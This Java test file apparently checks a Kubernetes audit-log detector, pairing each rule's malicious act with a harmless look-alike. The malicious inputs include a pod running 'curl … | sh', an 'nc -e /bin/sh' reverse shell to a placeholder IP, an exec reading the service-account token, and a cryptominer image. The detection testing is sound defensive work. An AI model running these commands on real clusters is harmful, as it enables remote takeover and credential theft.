package dev.breakwater.detection.audit;

import static org.assertj.core.api.Assertions.assertThat;

import dev.breakwater.audit.AuditEvent;
import dev.breakwater.detection.CatalogEntry;
import dev.breakwater.detection.Rules;
import dev.breakwater.signals.Finding;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Each rule for audit logs, with an act that it finds and one that is like it but harmless. */
class AuditRulesTest {

  record Example(String type, Act act, Act harmless) {
    @Override
    public String toString() {
      return type;
    }
  }

  private static Act pod(String spec) {
    return Act.create("pods").in("shop").named("p").asking("{\"spec\":" + spec + "}");
  }

  private static Act daemonSet(String spec) {
    return Act.create("daemonsets")
        .in("shop")
        .named("p")
        .asking("{\"spec\":{\"template\":{\"spec\":" + spec + "}}}");
  }

  private static Act mounting(String path, boolean readOnly) {
    return pod(
        """
        {"volumes": [{"name": "v", "hostPath": {"path": "%s"}}],
         "containers": [{"volumeMounts": [{"name": "v", "readOnly": %s}]}]}
        """
            .formatted(path, readOnly));
  }

  private static Act exec(String command) {
    return new Act("get", "pods")
        .in("shop")
        .named("web")
        .sub("exec")
        .at("/api/v1/namespaces/shop/pods/web/exec?container=c&command=" + command)
        .answered(101);
  }

  private static Act binding(String role, String subject) {
    return Act.create("clusterrolebindings")
        .named("b")
        .asking("{\"roleRef\":{\"name\":\"%s\"},\"subjects\":[%s]}".formatted(role, subject));
  }

  private static Act role(String rule) {
    return Act.create("clusterroles").named("r").asking("{\"rules\":[" + rule + "]}");
  }

  private static Act webhook(String config) {
    return Act.create("mutatingwebhookconfigurations")
        .named("w")
        .asking("{\"webhooks\":[{\"clientConfig\":" + config + "}]}");
  }

  private static Act service(String spec) {
    return Act.create("services").in("shop").named("s").asking("{\"spec\":" + spec + "}");
  }

  private static final String USER = "{\"kind\":\"User\",\"name\":\"eve\"}";
  private static final String PRIVILEGED =
      "{\"containers\":[{\"securityContext\":{\"privileged\":true}}]}";
  private static final String PLAIN = "{\"containers\":[{\"image\":\"nginx:1.27\"}]}";

  static Stream<Example> examples() {
    return Stream.of(pods(), entries(), rights(), rest()).flatMap(examples -> examples);
  }

  private static Stream<Example> pods() {
    return Stream.of(
        new Example("audit.privileged_container", pod(PRIVILEGED), pod(PLAIN)),
        new Example(
            "audit.privileged_container", daemonSet(PRIVILEGED), pod(PRIVILEGED).answered(403)),
        new Example(
            "audit.privileged_container",
            new Act("patch", "deployments")
                .in("shop")
                .named("web")
                .asking(
                    "[{\"op\":\"add\",\"path\":\"/spec/template/spec/containers/0/securityContext\"}]")
                .answering(
                    "{\"kind\":\"Deployment\",\"spec\":{\"template\":{\"spec\":"
                        + PRIVILEGED
                        + "}}}"),
            new Act("patch", "deployments")
                .in("shop")
                .named("web")
                .asking("{\"metadata\":{\"labels\":{\"a\":\"b\"}}}")
                .answering(
                    "{\"kind\":\"Deployment\",\"spec\":{\"template\":{\"spec\":"
                        + PRIVILEGED
                        + "}}}")),
        new Example(
            "audit.privileged_container",
            Act.create("cronjobs")
                .in("shop")
                .asking(
                    "{\"spec\":{\"jobTemplate\":{\"spec\":{\"template\":{\"spec\":"
                        + PRIVILEGED
                        + "}}}}}"),
            pod(PRIVILEGED).by("system:serviceaccount:kube-system:replicaset-controller")),
        new Example("audit.sensitive_hostpath", mounting("/", true), mounting("/srv/data", false)),
        new Example(
            "audit.sensitive_hostpath",
            mounting("//etc/./kubernetes/pki/", true),
            mounting("/proc", true)),
        new Example(
            "audit.sensitive_hostpath",
            mounting("/sys/fs/cgroup", false),
            mounting("/etc/localtime", true)),
        new Example(
            "audit.sensitive_hostpath",
            Act.create("persistentvolumes")
                .named("pv")
                .asking("{\"spec\":{\"hostPath\":{\"path\":\"/etc\"}}}"),
            Act.create("persistentvolumes")
                .named("pv")
                .asking("{\"spec\":{\"hostPath\":{\"path\":\"/srv\"}}}")),
        new Example(
            "audit.runtime_socket_mounted",
            mounting("/run/containerd/containerd.sock", true),
            mounting("/run/mysqld", false)),
        new Example("audit.host_pid", pod("{\"hostPID\":true}"), daemonSet("{\"hostPID\":true}")),
        new Example(
            "audit.host_namespaces", pod("{\"hostNetwork\":true}"), pod("{\"hostNetwork\":false}")),
        new Example(
            "audit.dangerous_capability",
            pod(
                "{\"initContainers\":[{\"securityContext\":{\"capabilities\":{\"add\":[\"cap_sys_admin\"]}}}]}"),
            pod(
                "{\"containers\":[{\"securityContext\":{\"capabilities\":{\"add\":[\"NET_BIND_SERVICE\"]}}}]}")),
        new Example(
            "audit.mining_workload",
            pod("{\"containers\":[{\"image\":\"evil.example:5000/xmrig/xmrig@sha256:00\"}]}"),
            pod("{\"containers\":[{\"image\":\"shop/determiner:1\"}]}")),
        new Example(
            "audit.suspicious_pod_command",
            pod(
                "{\"containers\":[{\"command\":[\"sh\",\"-c\"],\"args\":[\"curl -s x.example | sh\"]}]}"),
            pod(
                "{\"containers\":[{\"command\":[\"sh\",\"-c\"],\"args\":[\"curl -s x.example | tee /tmp/sh.log\"]}]}")),
        new Example(
            "audit.suspicious_pod_command",
            pod("{\"containers\":[{\"command\":[\"nc\",\"-e\",\"/bin/sh\",\"203.0.113.9\"]}]}"),
            pod("{\"containers\":[{\"command\":[\"nc\",\"-z\",\"db\",\"5432\"]}]}")),
        new Example(
            "audit.system_namespace_workload",
            pod(PLAIN).in("kube-system"),
            pod(PLAIN).in("kube-system").by("system:serviceaccount:kube-system:addon")),
        new Example(
            "audit.debug_container",
            new Act("patch", "pods").in("shop").named("web").sub("ephemeralcontainers"),
            new Act("get", "pods").in("shop").named("web").sub("ephemeralcontainers")));
  }

  private static Stream<Example> entries() {
    return Stream.of(
        new Example("audit.exec", exec("id"), exec("id").answered(403)),
        new Example(
            "audit.exec",
            Act.create("pods").in("shop").named("w").sub("exec").answered(101),
            exec("id").in("kube-system")),
        new Example("audit.exec_system_pod", exec("id").in("kube-system"), exec("id")),
        new Example(
            "audit.exec_reads_credentials",
            exec("cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken"),
            exec("cat&command=%2Fetc%2Fhosts")),
        new Example(
            "audit.attach",
            new Act("get", "pods").in("shop").named("web").sub("attach").answered(101),
            new Act("get", "pods").in("shop").named("web").sub("log")),
        new Example(
            "audit.port_forward",
            new Act("get", "pods").in("shop").named("web").sub("portforward").answered(101),
            new Act("get", "pods").in("shop").named("web").sub("portforward").answered(404)),
        new Example(
            "audit.kubelet_proxy",
            new Act("get", "nodes").named("node1").sub("proxy"),
            new Act("get", "nodes")
                .named("node1")
                .sub("proxy")
                .by("system:kube-apiserver-kubelet-client")));
  }

  private static Stream<Example> rights() {
    return Stream.of(
        new Example(
            "audit.cluster_admin_binding", binding("cluster-admin", USER), binding("view", USER)),
        new Example(
            "audit.cluster_admin_binding",
            binding(
                    "cluster-admin",
                    "{\"kind\":\"Group\",\"name\":\"kubeadm:cluster-admins\"}," + USER)
                .named("kubeadm:cluster-admins"),
            binding("cluster-admin", "{\"kind\":\"Group\",\"name\":\"kubeadm:cluster-admins\"}")
                .named("kubeadm:cluster-admins")),
        new Example(
            "audit.rights_for_everybody",
            binding("view", "{\"kind\":\"Group\",\"name\":\"system:unauthenticated\"}"),
            binding("view", "{\"kind\":\"Group\",\"name\":\"system:authenticated\"}")),
        new Example(
            "audit.wildcard_role",
            role("{\"verbs\":[\"*\"],\"resources\":[\"*\"]}"),
            role(
                "{\"verbs\":[\"*\"],\"resources\":[\"widgets\"]},{\"verbs\":[\"get\"],\"resources\":[\"*\"]}")),
        new Example(
            "audit.powerful_role",
            role("{\"verbs\":[\"get\",\"create\"],\"resources\":[\"pods\",\"pods/exec\"]}"),
            role("{\"verbs\":[\"get\",\"list\"],\"resources\":[\"pods\",\"configmaps\"]}")),
        new Example(
            "audit.system_role_changed",
            new Act("patch", "clusterroles").named("system:node"),
            Act.create("clusterroles").named("system:mine")),
        new Example(
            "audit.refused_escalation",
            binding("cluster-admin", USER).answered(403),
            Act.create("pods").in("shop").answered(403)),
        new Example(
            "audit.impersonation_of_system",
            new Act("list", "pods")
                .with("\"impersonatedUser\":{\"username\":\"x\",\"groups\":[\"system:masters\"]}"),
            new Act("list", "pods")
                .with("\"impersonatedUser\":{\"username\":\"bob\",\"groups\":[\"dev\"]}")),
        new Example(
            "audit.system_token_issued",
            Act.create("serviceaccounts").in("kube-system").named("x").sub("token"),
            Act.create("serviceaccounts")
                .in("kube-system")
                .named("x")
                .sub("token")
                .by("system:node:node1")),
        new Example(
            "audit.anonymous_request",
            new Act("list", "pods").by("system:anonymous"),
            new Act("get", "").at("/readyz?verbose").by("system:anonymous")),
        new Example(
            "audit.anonymous_request",
            new Act("get", "").at("/api/v1/pods").by("system:anonymous"),
            new Act("list", "pods").by("system:anonymous").answered(403)));
  }

  private static Stream<Example> rest() {
    return Stream.of(
        new Example(
            "audit.secrets_listed",
            new Act("list", "secrets"),
            new Act("list", "secrets").in("shop")),
        new Example(
            "audit.system_secrets_listed",
            new Act("list", "secrets").in("kube-system"),
            new Act("list", "secrets").in("kube-system").by("system:kube-controller-manager")),
        new Example(
            "audit.admission_webhook",
            webhook("{\"service\":{\"namespace\":\"x\",\"name\":\"y\"}}"),
            webhook("{\"service\":{\"name\":\"y\"}}").answered(409)),
        new Example(
            "audit.admission_webhook_outside",
            webhook("{\"url\":\"https://203.0.113.9/m\"}"),
            webhook("{\"service\":{\"name\":\"y\"}}")),
        new Example(
            "audit.admission_removed",
            new Act("delete", "validatingadmissionpolicybindings").named("x"),
            new Act("get", "validatingadmissionpolicybindings").named("x")),
        new Example(
            "audit.events_deleted",
            new Act("deletecollection", "events").in("shop"),
            new Act("deletecollection", "events")
                .in("shop")
                .by("system:serviceaccount:kube-system:namespace-controller")),
        new Example(
            "audit.pods_deleted_together",
            new Act("deletecollection", "pods").in("shop"),
            new Act("delete", "pods").in("shop").named("p")),
        new Example(
            "audit.coredns_changed",
            new Act("patch", "configmaps").in("kube-system").named("coredns"),
            new Act("get", "configmaps").in("kube-system").named("coredns")),
        new Example(
            "audit.service_takes_addresses",
            service("{\"externalIPs\":[\"203.0.113.8\"]}"),
            service("{\"clusterIP\":\"10.0.0.1\"}")),
        new Example(
            "audit.service_takes_addresses",
            Act.create("endpointslices")
                .in("shop")
                .named("e")
                .asking("{\"endpoints\":[{\"addresses\":[\"169.254.169.254\"]}]}"),
            Act.create("endpointslices")
                .in("shop")
                .named("e")
                .asking("{\"endpoints\":[{\"addresses\":[\"10.1.2.3\"]}]}")),
        new Example(
            "audit.dashboard_exposed",
            service("{\"type\":\"NodePort\"}").named("kubernetes-dashboard"),
            service("{\"type\":\"ClusterIP\"}").named("kubernetes-dashboard")),
        new Example(
            "audit.attack_tool",
            new Act("list", "pods").with("\"userAgent\":\"Kube-Hunter/0.6.8\""),
            new Act("list", "pods").with("\"userAgent\":\"kubectl/v1.33.1\"")));
  }

  @ParameterizedTest
  @MethodSource("examples")
  void findsTheAct(Example example) {
    assertThat(found(example.act().event())).contains(example.type());
  }

  @ParameterizedTest
  @MethodSource("examples")
  void isSilentOnWhatIsHarmless(Example example) {
    assertThat(found(example.harmless().event())).doesNotContain(example.type());
  }

  @Test
  void everyRuleForAuditLogsHasAnExample() {
    List<String> shown = examples().map(Example::type).toList();

    assertThat(Rules.catalog().entries())
        .extracting(CatalogEntry::id)
        .filteredOn(id -> id.startsWith("audit."))
        .isSubsetOf(shown);
  }

  private static List<String> found(AuditEvent event) {
    return Rules.find(event).stream().map(Finding::type).toList();
  }
}
